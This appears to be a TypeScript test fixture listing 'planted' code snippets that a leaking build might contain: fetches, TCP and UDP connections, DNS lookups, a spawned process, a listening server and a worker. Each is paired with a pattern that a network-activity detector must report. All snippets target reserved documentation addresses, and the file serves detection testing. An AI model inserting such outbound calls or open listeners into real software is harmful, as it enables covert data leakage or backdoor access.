/** Who planted code speaks to: addresses that are set aside for documents, so that nobody is there (RFC 5737, 3849). */
const NOBODY = '192.0.2.77'

/**
 * Code that a leaking build would hold in its main process, each with what the counter has to name. It is how the
 * counter itself is shown to see.
 */
export const PLANTS: Readonly<Record<string, { readonly code: string; readonly seen: RegExp }>> = {
  'a fetch by address': { code: `fetch('http://${NOBODY}/').catch(() => 0)`, seen: /^192\.0\.2\.77:80$/u },
  'a fetch by name': { code: `fetch('http://leak.invalid/').catch(() => 0)`, seen: /:53$|resolve|nscd/u },
  'a connection to a port': {
    code: `process.getBuiltinModule('node:net').connect(4444, '${NOBODY}').on('error', () => 0)`,
    seen: /^192\.0\.2\.77:4444$/u,
  },
  'a packet': {
    code: `process.getBuiltinModule('node:dgram').createSocket('udp4').send('x', 4445, '${NOBODY}', () => 0)`,
    seen: /^192\.0\.2\.77:4445$/u,
  },
  'a packet over IPv6': {
    code: `process.getBuiltinModule('node:dgram').createSocket('udp6').send('x', 4446, '2001:db8::77', () => 0)`,
    seen: /^\[2001:db8::77\]:4446$/u,
  },
  'a look-up at a server of its own': {
    code: `process.getBuiltinModule('node:dns').resolve4('leak.invalid', () => 0)`,
    seen: /:53$/u,
  },
  'a program of its own': {
    code: `process.getBuiltinModule('node:child_process').spawn('getent', ['ahosts', 'leak.invalid']).on('error', () => 0)`,
    seen: /:53$|resolve|nscd/u,
  },
  'a port for others': {
    code: `process.getBuiltinModule('node:net').createServer().listen(0, '0.0.0.0')`,
    seen: /^0\.0\.0\.0:0$/u,
  },
  'a worker': {
    code: `new (process.getBuiltinModule('node:worker_threads').Worker)("fetch('http://${NOBODY}:4447/').catch(() => 0)", { eval: true })`,
    seen: /^192\.0\.2\.77:4447$/u,
  },
}
